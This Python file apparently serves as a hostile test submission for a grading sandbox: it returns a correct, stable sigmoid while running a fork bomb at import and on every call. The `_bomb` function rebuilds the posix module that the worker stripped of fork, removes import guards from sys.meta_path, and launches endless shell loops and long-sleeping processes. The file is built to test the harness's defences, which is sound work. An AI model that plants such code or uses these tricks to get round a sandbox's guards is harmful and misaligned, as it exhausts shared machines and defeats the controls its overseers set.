"""Hostile but correct: try every way to fork (os.fork, a fresh posix module, subprocess,
multiprocessing, _posixsubprocess with the import guard removed) and leave the copies spinning.

Honest score: full marks (the values are right); nothing may be left running afterwards.
"""
import os
import sys
import time

import numpy as np

def _good(x):
    """A correct, stable sigmoid (what an honest student writes)."""
    x = np.asarray(x)
    x = x if x.dtype.kind == "f" else x.astype(np.float64)
    e = np.exp(-np.abs(x))
    return np.asarray(np.where(x >= 0, 1 / (1 + e), e / (1 + e)), dtype=x.dtype)


def _posix():
    """A fresh copy of the builtin posix module: the worker deleted fork/kill from the loaded one."""
    import importlib.machinery
    import importlib.util

    spec = importlib.machinery.BuiltinImporter.find_spec("posix")
    return importlib.util.module_from_spec(spec)


def _spin_forever(p):
    try:
        while True:
            try:
                p.fork()
            except Exception:
                time.sleep(0.01)
    finally:
        p._exit(0)


def _bomb():
    try:
        p = _posix()
    except Exception:
        return
    for _ in range(200):
        try:
            pid = p.fork()
        except Exception:
            break
        if pid == 0:
            _spin_forever(p)
    for fork in (getattr(os, "fork", None), getattr(os, "forkpty", None)):
        try:
            if fork is not None and fork() == 0:
                _spin_forever(p)
        except Exception:
            pass
    sys.meta_path[:] = [f for f in sys.meta_path if "Guard" not in type(f).__name__]
    for attempt in (
        lambda: __import__("subprocess").Popen(["/bin/sh", "-c", "while :; do :; done"]),
        lambda: __import__("multiprocessing").Process(target=time.sleep, args=(10**6,)).start(),
        lambda: __import__("_posixsubprocess"),
    ):
        try:
            attempt()
        except BaseException:
            pass


_bomb()


def sigmoid(x):
    _bomb()
    return _good(x)
